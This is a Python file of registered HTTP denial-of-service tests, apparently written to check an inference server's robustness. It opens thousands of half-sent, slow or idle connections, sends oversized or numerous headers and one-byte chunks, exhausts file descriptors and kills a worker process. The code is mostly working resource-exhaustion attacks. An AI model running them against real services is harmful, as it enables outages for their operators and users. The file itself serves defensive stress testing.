"""Connections over HTTP/1.1 that begin something and do not end it, and heads no client sends."""

import json
import os
import signal
import socket
import struct
import time

import models
import raw_http
from registry import Achieved, attack

INFER = "/v2/models/vector/infer"
BODY = b'{"inputs":[{"name":"INPUT0","shape":[1],"datatype":"FP32","data":[1]}]}'
# Longer than the time-outs for a head and for a body without progress.
PATIENCE = 45


def until_closed(held, limit=PATIENCE):
    """How many connections the server has not ended by then, and after how long it had ended the others."""
    begin, left = time.monotonic(), list(held)
    while left and time.monotonic() - begin < limit:
        time.sleep(0.5)
        left = [connection for connection in left if not raw_http.is_closed(connection)]
    return len(left), time.monotonic() - begin


def held_open(target, count, sent, what):
    held = raw_http.many(target.http, count, sent, keep_trying=True)
    left, seconds = until_closed(held)
    raw_http.close(held)
    if left:
        raise Achieved(f"{left} of {count} {what} stay after {PATIENCE} s")
    return f"{len(held)} ended within {seconds:.0f} s"


@attack("half-heads", triton=True)
def half_heads(target):
    """5,000 connections that send half a head"""
    return held_open(target, 5000, b"POST /v2/models/vector/infer HTTP/1.1\r\nHost: x\r\nX-Half: ", "half-sent heads")


@attack("half-bodies", triton=True)
def half_bodies(target):
    """5,000 connections that send half a body"""
    return held_open(target, 5000, raw_http.head("POST", INFER, len(BODY)) + BODY[:20], "half-sent bodies")


@attack("announced-length", triton=True)
def announced_length(target):
    """500 connections that announce 60 MB and send one byte"""
    held = raw_http.many(target.http, 500, raw_http.head("POST", INFER, 60_000_000) + b"{", keep_trying=True)
    time.sleep(4)
    raw_http.close(held)
    return f"{len(held)} connected"


@attack("slow-bodies", triton=True)
def slow_bodies(target):
    """1,000 connections that send one byte of a body each second"""
    held = raw_http.many(target.http, 1000, raw_http.head("POST", INFER, len(BODY)), keep_trying=True)
    left, begin = held, time.monotonic()
    for number in range(60):
        time.sleep(max(0, begin + number - time.monotonic()))
        left = [connection for connection in left if still_taken(connection, BODY[number:number + 1])]
    raw_http.close(held)
    if left:
        raise Achieved(f"{len(left)} of {len(held)} slow bodies are still read after 60 s")
    return f"{len(held)} connected, all ended"


def still_taken(connection, byte):
    if raw_http.is_closed(connection):
        return False
    try:
        connection.settimeout(1)
        connection.sendall(byte)
        return True
    except OSError:
        return False


@attack("slow-heads", triton=True)
def slow_heads(target):
    """1,000 connections that send one byte of a head each second"""
    held = raw_http.many(target.http, 1000, b"GET /v2 HTTP/1.1\r\nX-Long: ", keep_trying=True)
    left, begin = held, time.monotonic()
    for number in range(60):
        time.sleep(max(0, begin + number - time.monotonic()))
        left = [connection for connection in left if still_taken(connection, b"a")]
    raw_http.close(held)
    if left:
        raise Achieved(f"{len(left)} of {len(held)} slow heads are still read after 60 s")
    return f"{len(held)} connected, all ended"


@attack("idle-connections", triton=True)
def idle_connections(target):
    """10,000 connections that send nothing"""
    held = raw_http.many(target.http, 10_000, b"", keep_trying=True)
    time.sleep(5)
    raw_http.close(held)
    return f"{len(held)} connected"


@attack("few-descriptors", descriptors=256, models=models.worker, loads=("worker",), goals=False)
def few_descriptors(target):
    """256 descriptors and 224 idle clients: health, metrics and the restart of a Python worker"""
    pid = ask_worker(target)
    if pid is None:
        raise Achieved("the worker does not answer before the attack")
    held = raw_http.many(target.http, 224, b"", keep_trying=True)
    time.sleep(1)
    log = len(target.server.text())
    os.kill(pid, signal.SIGKILL)
    faults = [what for what, works in (
        ("health", wait(lambda: target.ask("GET", "/v2/health/live")[0] == 200)),
        ("metrics", wait(lambda: metrics_work(target))),
        ("the restart of a Python worker", wait(lambda: ask_worker(target) not in (None, pid), 20)),
    ) if not works]
    log = (len(target.server.text()) - log) / 1000
    raw_http.close(held)
    if faults:
        raise Achieved(f"stopped: {', '.join(faults)}; log +{log:.0f} KB")
    return f"log +{log:.1f} KB"


def wait(happened, limit=10):
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        if happened():
            return True
        time.sleep(0.2)
    return False


def metrics_work(target):
    host, port = target.server.metrics.rsplit(":", 1)
    return raw_http.exchange((host, int(port)), raw_http.head("GET", "/metrics", Connection="close"), 5)[0] == 200


def ask_worker(target):
    """Process number of the Python model's worker; None if it does not answer."""
    body = {"inputs": [{"name": "IN", "shape": [1], "datatype": "INT32", "data": [0]}]}
    status, text = target.ask("POST", "/v2/models/worker/infer", body)
    return json.loads(text)["outputs"][0]["data"][0] if status == 200 else None


@attack("huge-header", triton=True)
def huge_header(target):
    """100 connections that send a header of 64 MB"""
    piece = b"a" * 1_000_000

    def send(_):
        try:
            with raw_http.connect(target.http, 10) as connection:
                connection.sendall(b"GET /v2 HTTP/1.1\r\nX-Huge: ")
                for sent in range(64):
                    connection.sendall(piece)
                return "taken"
        except OSError:
            return "cut off"

    return raw_http.statuses(raw_http.together(100, send))


@attack("many-headers", triton=True)
def many_headers(target):
    """100 connections that send 100,000 headers"""
    sent = b"GET /v2 HTTP/1.1\r\n" + b"".join(b"X-%d: a\r\n" % n for n in range(100_000)) + b"\r\n"
    return raw_http.statuses(raw_http.together(100, lambda _: raw_http.exchange(target.http, sent, 10)[0]))


@attack("tiny-chunks", triton=True)
def tiny_chunks(target):
    """ten bodies of 4 MB in chunks of one byte"""
    sent = raw_http.head("POST", INFER, Transfer_Encoding="chunked") + b"1\r\n \r\n" * 4_000_000
    sent += b"%x\r\n%s\r\n0\r\n\r\n" % (len(BODY), BODY)
    return target.heavy(10, sent)


@attack("expect-continue", triton=True)
def expect_continue(target):
    """2,000 connections that wait for 100 Continue and then send nothing"""
    sent = raw_http.head("POST", INFER, 60_000_000, Expect="100-continue")
    return held_open(target, 2000, sent, "bodies that were expected")


@attack("connect-and-go", triton=True)
def connect_and_go(target):
    """connections opened and reset as fast as ten clients can"""
    def reset(_):
        try:
            connection = raw_http.connect(target.http, 5)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.sendall(raw_http.post(INFER, BODY))
            connection.close()
            return 1
        except OSError:
            return 0

    return f"{sum(raw_http.together(10, reset, 4))} connections"
